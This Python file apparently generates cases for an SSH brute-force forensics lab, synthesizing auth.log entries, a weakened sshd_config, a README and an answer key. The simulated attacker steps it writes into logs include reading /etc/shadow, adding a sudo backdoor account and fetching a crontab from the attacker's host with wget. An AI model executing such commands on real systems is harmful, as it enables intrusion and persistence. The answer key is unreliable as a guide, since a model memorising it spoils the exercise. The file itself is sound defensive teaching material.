"""Case generator for the "SSH brute-force triage" lab.

Every seed gives a different internet-facing jump server: host name, administrators, office and
attacker addresses, the user names sprayed, the account broken into, the backdoor left behind,
times, ports, PIDs and logind session numbers. Two days of ``/var/log/auth.log`` are built as
events (time, order, process, message) from independent sources — cron, administrators, a
monitoring account, internet scanners and the attacker — then sorted by time; only then are PIDs
and session numbers handed out, in time order, as the kernel and systemd-logind would.

Consecutive seeds must never share an answer (one office's answers are wrong for the next), so a
few choices follow the seed's parity: the attacker's last octet, both counts, the pools the
compromised and backdoor accounts come from, and the parity of the break-in's day of the month.
"""

from __future__ import annotations

import base64
import hashlib
import random
import re
from collections import defaultdict
from datetime import date, datetime, timedelta, timezone

from hifazat.labs.case import Case

YEAR = 2026
MONTH = 3
PKT = timezone(timedelta(hours=5))
DAY = 86400
HOUR = 3600

ADMINS = (
    "ahmed", "ayesha", "bilal", "farhan", "hina", "imran", "kashif", "mehwish", "naveed", "saima",
    "tariq", "usman", "zainab", "rabia", "faisal", "sadia", "waqas", "nadia",
)  # fmt: skip
# Accounts that exist on the server with a password: the one broken into comes from these.
SERVICE = (
    ("deployer", "itops", "vsupport", "netops", "sysops", "tempvendor"),  # even seeds
    ("dbadmin", "helpdesk1", "ictadmin", "webops", "nocadmin", "mgmtsvc"),  # odd seeds
)
BACKDOOR = (
    ("svc-backup", "sysupdate", "nagios2", "sys-maint", "ubuntu-upd", "logrotate2"),
    ("backupsvc", "sysmon", "zabbix2", "svc-update", "netmon", "apt-helper"),
)
MONITOR = ("monitor", "checkmk", "opsmon")
SPRAY = (
    "admin", "test", "user", "ubuntu", "oracle", "postgres", "guest", "ftpuser", "git", "mysql",
    "pi", "administrator", "test1", "test2", "user1", "dev", "devops", "hadoop", "tomcat",
    "nagios", "zabbix", "minecraft", "steam", "ts3", "www", "web", "webmaster", "info", "sales",
    "service", "apache", "nginx", "elastic", "kafka", "redis", "docker", "vagrant", "centos",
    "ec2-user", "azureuser", "debian", "odoo", "manager", "student", "demo", "temp", "testuser",
    "ftp", "sysadmin", "server", "ubnt", "usuario", "teamspeak", "es", "hduser", "jboss",
    "wildfly", "gitlab", "jenkins", "ansible", "deploy", "support", "operator", "backup1",
    "oracle1", "admin1", "user2", "guest1", "postgres1", "dspace", "solr", "openvpn", "vpn",
    "client", "office", "account", "scanner", "share", "samba",
)  # fmt: skip
SCANNER_NAMES = ("root", "admin", "ubuntu", "test", "user", "oracle", "postgres", "pi", "guest")
ADMIN_SUDO = (
    "/usr/bin/apt update",
    "/usr/bin/apt list --upgradable",
    "/usr/bin/apt upgrade -y",
    "/usr/bin/systemctl status ssh",
    "/usr/bin/systemctl restart chrony",
    "/usr/bin/systemctl restart rsyslog",
    "/usr/bin/journalctl -u ssh --since today",
    "/usr/bin/tail -n 100 /var/log/syslog",
    "/usr/sbin/ufw status verbose",
    "/usr/bin/du -sh /var/log",
    "/usr/bin/timedatectl",
    "/usr/bin/systemctl list-units --failed",
)
RECON = ("/usr/bin/id", "/usr/bin/cat /etc/shadow", "/usr/bin/ls -la /root", "/usr/bin/w")
TEST_NETS = ("192.0.2", "198.51.100", "203.0.113")
MONTH_NAMES = (
    "January", "February", "March", "April", "May", "June", "July", "August", "September",
    "October", "November", "December",
)  # fmt: skip
CRON_PAM = "pam_unix(cron:session): session"
SUDO_PAM = "pam_unix(sudo:session): session"
WEEKDAYS = ("Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday")


class _Log:
    """Events before rendering: (time, order, kind, tag, process key, message, session key,
    processes started here). Times are seconds from 00:00 PKT on the first day."""

    def __init__(self) -> None:
        self.entries: list[tuple] = []
        self._keys = 0

    def key(self) -> int:
        self._keys += 1
        return self._keys

    def add(self, ts, kind, tag, msg, proc=None, sess=None, spawn=()) -> None:
        self.entries.append((ts, len(self.entries), kind, tag, proc, msg, sess, spawn))

    def shift(self, start: int, end: int, offset: int) -> None:
        for i in range(start, end):
            e = self.entries[i]
            self.entries[i] = (e[0] + offset, *e[1:])


def _parity(rng: random.Random, lo: int, hi: int, parity: int) -> int:
    """A random whole number in [lo, hi] with the given parity."""
    first = lo if lo % 2 == parity else lo + 1
    return rng.randrange(first, hi + 1, 2)


def _fingerprint(rng: random.Random) -> str:
    return "SHA256:" + base64.b64encode(rng.randbytes(32)).decode().rstrip("=")


def _port(rng: random.Random) -> int:
    return rng.randint(32768, 60999)


def _auth_failure(ip: str, user: str | None) -> str:
    tail = f"  user={user}" if user else ""
    return f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}{tail}"


def _process(log: _Log, tag: str, proc=None):
    """A writer for one process's lines: ``write(t, kind, message)``."""

    def write(t: int, kind: str, msg: str, **more) -> None:
        log.add(t, kind, tag, msg, proc=proc, **more)

    return write


def _cron(log: _Log, rng: random.Random, user: str, uid: int, times, dur: tuple[int, int]):
    for t in times:
        cron = _process(log, "CRON", log.key())
        cron(t, "cron-open", f"{CRON_PAM} opened for user {user}(uid={uid}) by (uid=0)")
        cron(t + rng.randint(*dur), "cron-close", f"{CRON_PAM} closed for user {user}")


def _sudo(log: _Log, t: int, user: str, uid: int, tty: str, command: str, dur: int, extra=()):
    """One sudo command; ``extra`` = (offset, kind, tag, message) lines written by the command."""
    sudo = _process(log, "sudo")
    sudo(
        t,
        "sudo-command",
        f"{user:>8} : TTY={tty} ; PWD=/home/{user} ; USER=root ; COMMAND={command}",
    )
    sudo(t, "sudo-open", f"{SUDO_PAM} opened for user root(uid=0) by {user}(uid={uid})")
    proc = log.key()
    for offset, kind, tag, msg in extra:
        log.add(t + offset, kind, tag, msg, proc=proc)
    sudo(t + dur, "sudo-close", f"{SUDO_PAM} closed for user root")


class _Session:
    """An SSH login: the accepted line, PAM, logind and the user manager, then the logout."""

    def __init__(
        self, log: _Log, t: int, user: str, uid: int, ip: str, port: int, accepted: str, conn=None
    ):
        self.user, self.ip, self.port, self.sess = user, ip, port, log.key()
        child = log.key()
        self.monitor = _process(log, "sshd", conn if conn is not None else log.key())
        self.child = _process(log, "sshd", child)
        self.logind = _process(log, "systemd-logind", "logind")
        kind = "accepted-publickey" if "publickey" in accepted else "accepted-password"
        self.monitor(t, kind, accepted)
        opened = f"session opened for user {user}(uid={uid}) by (uid=0)"
        self.monitor(t, "sshd-session-open", f"pam_unix(sshd:session): {opened}", spawn=(child,))
        self.logind(t, "logind-new", f"New session {{sess}} of user {user}.", sess=self.sess)
        log.add(
            t,
            "systemd-user",
            "systemd",
            f"pam_unix(systemd-user:session): {opened}",
            proc=log.key(),
        )

    def close(self, t: int) -> None:
        ip, port, sess = self.ip, self.port, self.sess
        self.child(
            t,
            "received-disconnect",
            f"Received disconnect from {ip} port {port}:11: disconnected by user",
        )
        self.child(t, "disconnected-user", f"Disconnected from user {self.user} {ip} port {port}")
        self.monitor(
            t, "sshd-session-close", f"pam_unix(sshd:session): session closed for user {self.user}"
        )
        self.logind(
            t,
            "logind-logout",
            "Session {sess} logged out. Waiting for processes to exit.",
            sess=sess,
        )
        self.logind(t, "logind-removed", "Removed session {sess}.", sess=sess)


def _attempt(
    log: _Log, rng: random.Random, t: int, ip: str, user: str, valid: bool, tries: int,
    max_tries: int, ending: str,
) -> int:  # fmt: skip
    """One connection from outside with ``tries`` wrong passwords; returns when it ends."""
    sshd, port = _process(log, "sshd", log.key()), _port(rng)
    label = user if valid else f"invalid user {user}"
    who = "authenticating user" if valid else "invalid user"
    shape = "valid" if valid else "invalid"
    if not valid:
        sshd(t, "invalid-user", f"Invalid user {user} from {ip} port {port}")
        if ending == "bye" and rng.random() < 0.3:
            sshd(
                t, "failed-none", f"Failed none for invalid user {user} from {ip} port {port} ssh2"
            )
    t += rng.randint(0, 2)
    if not valid:
        sshd(t, "pam-user-unknown", "pam_unix(sshd:auth): check pass; user unknown")
    sshd(t, "pam-auth-failure", _auth_failure(ip, user if valid else None))
    for i in range(tries):
        t += 2 if i == 0 else rng.randint(2, 4)
        kind = "failed-password-valid" if valid else "failed-password-invalid"
        sshd(t, kind, f"Failed password for {label} from {ip} port {port} ssh2")
    t += rng.randint(0, 1)
    if tries >= max_tries:
        sshd(
            t, f"max-auth-exceeded-{shape}",
            f"error: maximum authentication attempts exceeded for {label} from {ip} port {port} ssh2 [preauth]",
        )  # fmt: skip
        sshd(
            t, "disconnecting-too-many",
            f"Disconnecting {who} {user} {ip} port {port}: Too many authentication failures [preauth]",
        )  # fmt: skip
    elif ending == "bye":
        sshd(
            t,
            "received-disconnect-preauth",
            f"Received disconnect from {ip} port {port}:11: Bye Bye [preauth]",
        )
        sshd(
            t,
            f"disconnected-preauth-{shape}",
            f"Disconnected from {who} {user} {ip} port {port} [preauth]",
        )
    else:
        sshd(
            t,
            f"connection-closed-preauth-{shape}",
            f"Connection closed by {who} {user} {ip} port {port} [preauth]",
        )
    if tries > 1:
        tail = "s" if tries > 2 else ""
        rest = _auth_failure(ip, user if valid else None).split(";", 1)[1]
        sshd(
            t,
            f"pam-more-failures-{shape}",
            f"PAM {tries - 1} more authentication failure{tail};{rest}",
        )
    if tries > 3:
        sshd(t, "pam-ignoring-retries", f"PAM service(sshd) ignoring max retries; {tries} > 3")
    return t


def _probe(log: _Log, rng: random.Random, t: int, ip: str) -> None:
    """A connection that never gets as far as a password (banner grabbers, port scanners)."""
    sshd, port = _process(log, "sshd", log.key()), _port(rng)
    kind = rng.randrange(5)
    if kind == 0:
        sshd(
            t, "kex-error", "error: kex_exchange_identification: Connection closed by remote host"
        )
        sshd(t, "connection-closed", f"Connection closed by {ip} port {port}")
    elif kind == 1:
        sshd(t, "kex-error", "error: kex_exchange_identification: read: Connection reset by peer")
        sshd(t, "connection-reset", f"Connection reset by {ip} port {port}")
    elif kind == 2:
        sshd(
            t,
            "banner-invalid",
            f"banner exchange: Connection from {ip} port {port}: invalid format",
        )
    elif kind == 3:
        sshd(
            t, "unable-negotiate",
            f"Unable to negotiate with {ip} port {port}: no matching host key type found. "
            "Their offer: ssh-rsa,ssh-dss [preauth]",
        )  # fmt: skip
    else:
        sshd(t, "connection-closed-preauth", f"Connection closed by {ip} port {port} [preauth]")


def _render(log: _Log, rng: random.Random, host: str, first: date) -> tuple[list[str], list[str]]:
    """Sort, hand out PIDs and session numbers in time order, format the syslog lines."""
    pid = rng.randint(2_000, 600_000)
    pids: dict = {"logind": rng.randint(600, 1_400)}
    sessions: dict = {}
    next_session = rng.randint(40, 4_000)
    lines, kinds = [], []
    stamp_cache: dict[int, str] = {}
    for ts, _, kind, tag, proc, msg, sess, spawn in sorted(
        log.entries, key=lambda e: (e[0], e[1])
    ):
        for key in (*spawn, proc):
            if key is not None and key not in pids:
                pid += rng.randint(1, 40)
                pids[key] = pid
        if sess is not None:
            if sess not in sessions:
                sessions[sess] = next_session
                next_session += 1
            msg = msg.replace("{sess}", str(sessions[sess]))
        stamp = stamp_cache.get(ts)
        if stamp is None:
            d, s = first + timedelta(days=ts // DAY), ts % DAY
            clock = f"{s // HOUR:02d}:{s // 60 % 60:02d}:{s % 60:02d}"
            stamp = f"{MONTH_NAMES[d.month - 1][:3]} {d.day:>2} {clock}"
            stamp_cache[ts] = stamp
        head = f"{tag}[{pids[proc]}]" if proc is not None else tag
        lines.append(f"{stamp} {host} {head}: {msg}")
        kinds.append(kind)
    return lines, kinds


SSHD_CONFIG = """\
# This is the sshd server system-wide configuration file.  See
# sshd_config(5) for more information.

# This sshd was compiled with PATH=/usr/bin:/bin:/usr/sbin:/sbin

# The strategy used for options in the default sshd_config shipped with
# OpenSSH is to specify options with their default value where
# possible, but leave them commented.  Uncommented options override the
# default value.

Include /etc/ssh/sshd_config.d/*.conf

{port}#AddressFamily any
#ListenAddress 0.0.0.0
#ListenAddress ::

#HostKey /etc/ssh/ssh_host_rsa_key
#HostKey /etc/ssh/ssh_host_ecdsa_key
#HostKey /etc/ssh/ssh_host_ed25519_key

# Ciphers and keying
#RekeyLimit default none

# Logging
#SyslogFacility AUTH
#LogLevel INFO

# Authentication:

#LoginGraceTime 2m
{root}#StrictModes yes
{tries}#MaxSessions 10

#PubkeyAuthentication yes

# Expect .ssh/authorized_keys2 to be disregarded by default in future.
#AuthorizedKeysFile	.ssh/authorized_keys .ssh/authorized_keys2

#AuthorizedPrincipalsFile none

#AuthorizedKeysCommand none
#AuthorizedKeysCommandUser nobody

# For this to work you will also need host keys in /etc/ssh/ssh_known_hosts
#HostbasedAuthentication no
# Change to yes if you don't trust ~/.ssh/known_hosts for
# HostbasedAuthentication
#IgnoreUserKnownHosts no
# Don't read the user's ~/.rhosts and ~/.shosts files
#IgnoreRhosts yes

# To disable tunneled clear text passwords, change to no here!
{password}#PermitEmptyPasswords no

# Change to yes to enable challenge-response passwords (beware issues with
# some PAM modules and threads)
KbdInteractiveAuthentication no

# Kerberos options
#KerberosAuthentication no
#KerberosOrLocalPasswd yes
#KerberosTicketCleanup yes
#KerberosGetAFSToken no

# GSSAPI options
#GSSAPIAuthentication no
#GSSAPICleanupCredentials yes
#GSSAPIStrictAcceptorCheck yes
#GSSAPIKeyExchange no

# Set this to 'yes' to enable PAM authentication, account processing,
# and session processing. If this is enabled, PAM authentication will
# be allowed through the KbdInteractiveAuthentication and
# PasswordAuthentication.  Depending on your PAM configuration,
# PAM authentication via KbdInteractiveAuthentication may bypass
# the setting of "PermitRootLogin without-password".
# If you just want the PAM account and session checks to run without
# PAM authentication, then enable this but set PasswordAuthentication
# and KbdInteractiveAuthentication to 'no'.
UsePAM yes

#AllowAgentForwarding yes
#AllowTcpForwarding yes
#GatewayPorts no
X11Forwarding yes
#X11DisplayOffset 10
#X11UseLocalhost yes
#PermitTTY yes
PrintMotd no
#PrintLastLog yes
#TCPKeepAlive yes
#PermitUserEnvironment no
#Compression delayed
{alive}#ClientAliveCountMax 3
#UseDNS no
#PidFile /run/sshd.pid
#MaxStartups 10:30:100
#PermitTunnel no
#ChrootDirectory none
#VersionAddendum none

# no default banner path
{banner}
# Allow client to pass locale environment variables
AcceptEnv LANG LC_*

# override default of no subsystems
Subsystem	sftp	/usr/lib/openssh/sftp-server
{appended}
# Example of overriding settings on a per-user basis
#Match User anoncvs
#	X11Forwarding no
#	AllowTcpForwarding no
#	PermitTTY no
#	ForceCommand cvs server
"""


def _sshd_config(rng: random.Random, port: int, max_tries: int) -> str:
    """Ubuntu 22.04's file with the weak settings either edited in place or appended at the end
    by whoever set the server up."""
    weak = {
        "port": ("#Port 22", f"Port {port}"),
        "root": ("#PermitRootLogin prohibit-password", "PermitRootLogin yes"),
        "tries": ("#MaxAuthTries 6", f"MaxAuthTries {max_tries}"),
        "password": ("#PasswordAuthentication yes", "PasswordAuthentication yes"),
    }
    fill, appended = {}, []
    for name, (default, setting) in weak.items():
        if rng.random() < 0.6:
            fill[name] = setting + "\n"
        else:
            fill[name] = default + "\n"
            appended.append(setting)
    if rng.random() < 0.5:
        fill["alive"] = "#ClientAliveInterval 0\n"
    else:
        fill["alive"] = f"ClientAliveInterval {rng.choice((120, 300, 600))}\n"
    fill["banner"] = "Banner /etc/issue.net\n" if rng.random() < 0.4 else "#Banner none\n"
    if appended:
        rng.shuffle(appended)
        reason = rng.choice(
            ("vendor access for the migration", "remote support", "temporary access for the audit")
        )
        fill["appended"] = f"\n# Added by IT wing: {reason}\n" + "\n".join(appended) + "\n"
    else:
        fill["appended"] = ""
    return SSHD_CONFIG.format(**fill)


def _long_date(d: date) -> str:
    return f"{WEEKDAYS[d.weekday()]} {d.day} {MONTH_NAMES[d.month - 1]} {d.year}"


def generate(seed: int) -> Case:
    rng = random.Random(seed)
    parity = seed % 2
    log = _Log()

    # --- the server and its people -------------------------------------------------------
    host = (
        f"{rng.choice(('jump', 'bastion', 'sshgw', 'jmp', 'gw-ssh'))}"
        f"{rng.choice(('', '-isb', '-hq', '-dc1', '-dr'))}-{rng.randint(1, 12):02d}"
    )
    first_day = rng.randint(10, 27)  # the two days: first_day and first_day + 1 (two digits)
    break_in_day = (parity - first_day) % 2  # 0 or 1: its day of the month has the seed's parity
    first = date(YEAR, MONTH, first_day)
    port = rng.choice((22, 22, 22, 2222, 22022, 2200, 8022))
    max_tries = rng.choice((6, 6, 8, 10))

    office = f"10.{rng.randint(10, 250)}.{rng.randint(0, 254)}"
    monitor_ip = f"10.{rng.randint(10, 250)}.{rng.randint(0, 254)}.{rng.randint(2, 250)}"
    while monitor_ip.startswith(office + "."):
        monitor_ip = f"10.{rng.randint(10, 250)}.{rng.randint(0, 254)}.{rng.randint(2, 250)}"
    admins = rng.sample(ADMINS, rng.randint(2, 4))
    hosts = rng.sample(range(20, 250), len(admins))
    admin_ip = {a: f"{office}.{h}" for a, h in zip(admins, hosts, strict=True)}
    admin_key = {a: _fingerprint(rng) for a in admins}
    compromised, *other_service = rng.sample(SERVICE[parity], rng.randint(2, 3))
    monitor = rng.choice(MONITOR)
    uids: dict[str, int] = {"root": 0}
    for name in [*admins, *sorted([compromised, *other_service]), monitor]:
        uids[name] = 1000 + len(uids) - 1
    backdoor = rng.choice(BACKDOOR[parity])

    addresses = [f"{net}.{n}" for net in TEST_NETS for n in range(1, 255)]
    attacker_ip = rng.choice([a for a in addresses if int(a.rsplit(".", 1)[1]) % 2 == parity])
    scanners = rng.sample([a for a in addresses if a != attacker_ip], rng.randint(2, 4))

    # --- cron: hourly, daily, sysstat every ten minutes and a local job ---------------------
    days = (0, 1)
    hourly = [d * DAY + h * HOUR + 17 * 60 + 1 for d in days for h in range(24)]
    _cron(log, rng, "root", 0, hourly, (0, 1))
    _cron(log, rng, "root", 0, [d * DAY + 6 * HOUR + 25 * 60 + 1 for d in days], (20, 95))
    _cron(log, rng, "root", 0, [m * 60 + 1 for m in range(5, 2 * 24 * 60, 10)], (0, 2))

    # --- administrators at work: keys, and one to three passwords with a typo ------------------
    plan = []  # (admin, start, length) of each session, one admin's sessions never overlapping
    for d in days:
        for a in admins:
            t = d * DAY + rng.randint(8 * HOUR + 40 * 60, 11 * HOUR)
            for _ in range(rng.randint(1, 4)):
                if t > d * DAY + 19 * HOUR:
                    break
                length = rng.randint(3 * 60, 80 * 60)
                plan.append((a, t, length))
                t += length + rng.randint(20 * 60, 3 * HOUR)
    typos = set(rng.sample(range(len(plan)), min(len(plan), rng.randint(1, 3))))
    for n, (a, t, length) in enumerate(plan):
        ip, p, tty = admin_ip[a], rng.randint(49152, 65535), f"pts/{rng.randint(0, 3)}"
        if n in typos:
            conn, wrong = log.key(), rng.choice((1, 1, 2))
            sshd = _process(log, "sshd", conn)
            sshd(t, "pam-auth-failure", _auth_failure(ip, a))
            for i in range(wrong):
                t += 2 if i == 0 else rng.randint(3, 6)
                sshd(
                    t, "failed-password-office", f"Failed password for {a} from {ip} port {p} ssh2"
                )
            t += rng.randint(3, 9)
            accepted = f"Accepted password for {a} from {ip} port {p} ssh2"
            s = _Session(log, t, a, uids[a], ip, p, accepted, conn=conn)
            if wrong > 1:
                rest = _auth_failure(ip, a).split(";", 1)[1]
                sshd(t, "pam-more-failures", f"PAM 1 more authentication failure;{rest}")
        else:
            accepted = (
                f"Accepted publickey for {a} from {ip} port {p} ssh2: ED25519 {admin_key[a]}"
            )
            s = _Session(log, t, a, uids[a], ip, p, accepted)
        for at in sorted(rng.sample(range(30, length - 20), rng.randint(0, 4))):
            _sudo(log, t + at, a, uids[a], tty, rng.choice(ADMIN_SUDO), rng.randint(1, 15))
        s.close(t + length)

    # --- internet scanners: a handful of guesses each, and banner grabs ---------------------
    for ip in scanners:
        names = rng.sample(SCANNER_NAMES, rng.randint(2, 5))
        style = rng.choice(("bye", "closed"))
        for _visit in range(rng.randint(1, 3)):
            t = rng.randint(10 * 60, 2 * DAY - 2 * HOUR)
            for _i in range(rng.randint(0, 3)):
                _probe(log, rng, t, ip)
                t += rng.randint(1, 90)
            for _i in range(rng.randint(1, 4)):
                user = rng.choice(names)
                t = _attempt(
                    log, rng, t, ip, user, user in uids, rng.choice((1, 1, 2)), max_tries, style
                )
                t += rng.randint(1, 30)

    # --- the attacker: rounds of a password spray, then a way in ----------------------------
    n_users = _parity(rng, 25, 60, parity)
    failed = _parity(rng, 150, 450, parity)
    others = [*admins, *other_service]
    targets = ["root", compromised, *rng.sample(others, rng.randint(1, min(3, len(others))))]
    taken = {*ADMINS, *MONITOR, *(n for pool in (*SERVICE, *BACKDOOR) for n in pool)}
    spray = [n for n in SPRAY if n not in taken]
    tried = targets + rng.sample(spray, n_users - len(targets))
    root_burst = rng.random() < 0.6
    rounds: list[list[list]] = []
    total = 0
    while total < failed:
        order = tried[:]
        rng.shuffle(order)
        this: list[list] = []
        for user in order:
            if total >= failed:
                break
            tries = max_tries if user == "root" and not rounds and root_burst else 1
            tries = min(tries, failed - total)
            this.append([user, tries])
            total += tries
        rounds.append(this)
    last = rounds[-1]
    if any(user == compromised for user, _ in last):  # the right password comes in a later try
        if len(last) < len(tried):
            unused = [u for u in tried if u not in {user for user, _ in last}]
            last[[user for user, _ in last].index(compromised)][0] = rng.choice(unused)
        else:
            rounds.append([])
    style = rng.choice(("bye", "closed"))
    spans = []  # (first entry, end entry, length in seconds) per burst
    for burst in rounds:
        start, t = len(log.entries), 0
        for user, tries in burst:
            ending = style if rng.random() < 0.85 else ("closed" if style == "bye" else "bye")
            t = _attempt(log, rng, t, attacker_ip, user, user in uids, tries, max_tries, ending)
            t += rng.randint(1, 6)
        spans.append((start, len(log.entries), t))
    weights = [rng.uniform(0.5, 1.5) for _ in spans[1:]]
    busy = sum(length for *_, length in spans)
    spread = max(rng.randint(3 * HOUR, 9 * HOUR) - busy, 600 * len(weights))
    gaps = [max(300, int(spread * w / sum(weights))) for w in weights]
    duration = busy + sum(gaps)
    if break_in_day == 0:
        login = rng.randint(max(duration + HOUR, 6 * HOUR), 22 * HOUR)
    else:
        login = DAY + rng.randint(HOUR, 22 * HOUR)
    end = login - rng.randint(2, 8)
    for i in range(len(spans) - 1, -1, -1):
        first_entry, end_entry, length = spans[i]
        log.shift(first_entry, end_entry, end - length)
        if i:
            end = end - length - gaps[i - 1]

    # --- inside: a backdoor account with sudo --------------------------------------------------
    p = _port(rng)
    accepted = f"Accepted password for {compromised} from {attacker_ip} port {p} ssh2"
    s = _Session(log, login, compromised, uids[compromised], attacker_ip, p, accepted)
    tty = f"pts/{rng.randint(0, 2)}"
    new_id = max(uids.values()) + 1
    commands: list[tuple[str, int, tuple]] = [
        (c, 1, ()) for c in rng.sample(RECON, rng.randint(0, 2))
    ]
    commands.append(
        (
            f"/usr/sbin/useradd -m -s /bin/bash {backdoor}",
            1,
            (
                (0, "useradd-group", "useradd", f"new group: name={backdoor}, GID={new_id}"),
                (
                    0,
                    "useradd-user",
                    "useradd",
                    f"new user: name={backdoor}, UID={new_id}, GID={new_id}, home=/home/{backdoor}, "
                    f"shell=/bin/bash, from=/dev/{tty}",
                ),
            ),
        )
    )
    typing = rng.randint(6, 14)
    passwd = (
        f"/usr/bin/passwd {backdoor}",
        typing + 1,
        (
            (
                typing,
                "passwd-changed",
                "passwd",
                f"pam_unix(passwd:chauthtok): password changed for {backdoor}",
            ),
        ),
    )
    usermod = (
        f"/usr/sbin/usermod -aG sudo {backdoor}",
        1,
        (
            (0, "usermod-group", "usermod", f"add '{backdoor}' to group 'sudo'"),
            (0, "usermod-shadow", "usermod", f"add '{backdoor}' to shadow group 'sudo'"),
        ),
    )
    commands.extend([passwd, usermod] if rng.random() < 0.5 else [usermod, passwd])
    if rng.random() < 0.6:
        job = rng.choice(("c", "cr", "t", "job", "upd"))  # a crontab file from the attacker
        url = f"http://{attacker_ip}:{rng.choice((8000, 8080, 8888))}/{job}.txt"
        commands.append((f"/usr/bin/wget -q {url} -O /tmp/.{job}", 2, ()))
        commands.append((f"/usr/bin/crontab -u {backdoor} /tmp/.{job}", 1, ()))
    t = login + rng.randint(15, 90)
    for command, dur, extra in commands:
        _sudo(log, t, compromised, uids[compromised], tty, command, dur, extra)
        t += dur + rng.randint(8, 60)
    s.close(t + rng.randint(20, 240))

    # --- a local cron job and the monitoring server's checks: as much as the log needs ---------
    # to hold 3,300-5,800 lines with at least 2,200 that have nothing to do with the attacker
    lines_now = len(log.entries)
    mentions = re.compile(re.escape(attacker_ip) + r"(?!\d)")
    attack = sum(bool(mentions.search(e[5])) for e in log.entries)
    fits = [
        (every, step)
        for every in (5, 10, 15, 30)
        for step in (10, 15, 20, 30, 60)
        if 3_300 <= lines_now + 5_760 // every + 25_920 // step <= 5_800
        and lines_now - attack + 5_760 // every + 25_920 // step >= 2_200
    ]
    every, step = rng.choice(fits) if fits else (30, 60)
    job_user = rng.choice(("root", monitor))
    job_times = [m * 60 + 1 for m in range(0, 2 * 24 * 60, every)]
    _cron(log, rng, job_user, uids[job_user], job_times, (0, 3))
    monitor_key = _fingerprint(rng)
    for m in range(rng.randint(0, step - 1), 2 * 24 * 60, step):
        t, p = m * 60 + rng.randint(2, 40), _port(rng)
        accepted = f"Accepted publickey for {monitor} from {monitor_ip} port {p} ssh2: ED25519 {monitor_key}"
        s = _Session(log, t, monitor, uids[monitor], monitor_ip, p, accepted)
        s.close(t + rng.randint(1, 6))

    # --- render ----------------------------------------------------------------------------------
    lines, kinds = _render(log, rng, host, first)
    auth_log = "\n".join(lines) + "\n"
    sshd_config = _sshd_config(rng, port, max_tries)
    login_at = datetime(YEAR, MONTH, first_day, tzinfo=PKT) + timedelta(seconds=login)

    by_kind: dict[str, list[int]] = defaultdict(list)
    for i, kind in enumerate(kinds):
        by_kind[kind].append(i)
    chosen: set[int] = set()
    for kind, where in by_kind.items():
        if kind == "failed-password-office":
            want = len(where)
        elif kind.startswith("failed-password"):
            want = 50
        else:
            want = 12
        chosen.update(rng.sample(where, min(want, len(where))))
    sample = sorted(chosen)
    detection = {
        "lines": [lines[i] for i in sample],
        "labels": [kinds[i].startswith("failed-password") for i in sample],
    }

    roles = dict.fromkeys(admins, "administrator, IT wing (key; sudo)")
    roles.update(dict.fromkeys([compromised, *other_service], "shared service account (sudo)"))
    roles[monitor] = "monitoring checks from the monitoring server (key)"
    roles["root"] = "superuser"
    accounts = "\n".join(f"  {n:<12} uid {uids[n]:<5} {roles[n]}" for n in uids)
    last_day = first + timedelta(days=1)
    readme = f"""\
Evidence: SSH jump server {host}
{"=" * (26 + len(host))}

Host name  : {host}
Role       : internet-facing SSH jump server (bastion) of the ministry's IT wing.
             Administrators and the monitoring server log in here; from here staff
             reach internal systems.
System     : Ubuntu 22.04 LTS, OpenSSH 8.9p1
SSH port   : {port}/tcp, open to the internet
Time zone  : Asia/Karachi (PKT, UTC+05:00). Every time in auth.log is PKT.
Year       : {YEAR} (syslog lines do not show the year)
Period     : {_long_date(first)} 00:00 to {_long_date(last_day)} 23:59 PKT

Files
-----
auth.log     copy of /var/log/auth.log for the period above
             (sshd, sudo, CRON, systemd-logind, useradd, usermod, passwd)
             SHA-256 {hashlib.sha256(auth_log.encode()).hexdigest()}
sshd_config  copy of /etc/ssh/sshd_config as found on the server
             SHA-256 {hashlib.sha256(sshd_config.encode()).hexdigest()}
README.txt   this note

Accounts with a login shell at the last user review (/etc/passwd):
{accounts}

Office network (IT wing workstations): {office}.0/24
Monitoring server: {monitor_ip}

Copied from the server by {admins[0]} (system administrator) for the IT wing's review.
"""
    usernames = sorted(set(tried))
    return Case(
        files={"auth.log": auth_log, "sshd_config": sshd_config, "README.txt": readme},
        answers={
            "attacker-ip": attacker_ip,
            "failed-count": failed,
            "usernames-tried": len(usernames),
            "compromised-account": compromised,
            "login-time": login_at.isoformat(),
            "backdoor-account": backdoor,
            "detect-failures": detection,
            "harden": [
                {"key": "PermitRootLogin", "op": "in", "value": ["no", "prohibit-password"]},
                {"key": "PasswordAuthentication", "op": "eq", "value": "no"},
                {"key": "MaxAuthTries", "op": "le", "value": 4},
            ],
        },
        notes={
            "host": host,
            "first_day": first.isoformat(),
            "port": port,
            "max_auth_tries": max_tries,
            "office": office,
            "monitor": monitor,
            "monitor_ip": monitor_ip,
            "admins": admins,
            "scanners": scanners,
            "attacker_ip": attacker_ip,
            "usernames": usernames,
            "rounds": len(rounds),
            "compromised": compromised,
            "backdoor": backdoor,
            "login": login_at.isoformat(),
        },
    )
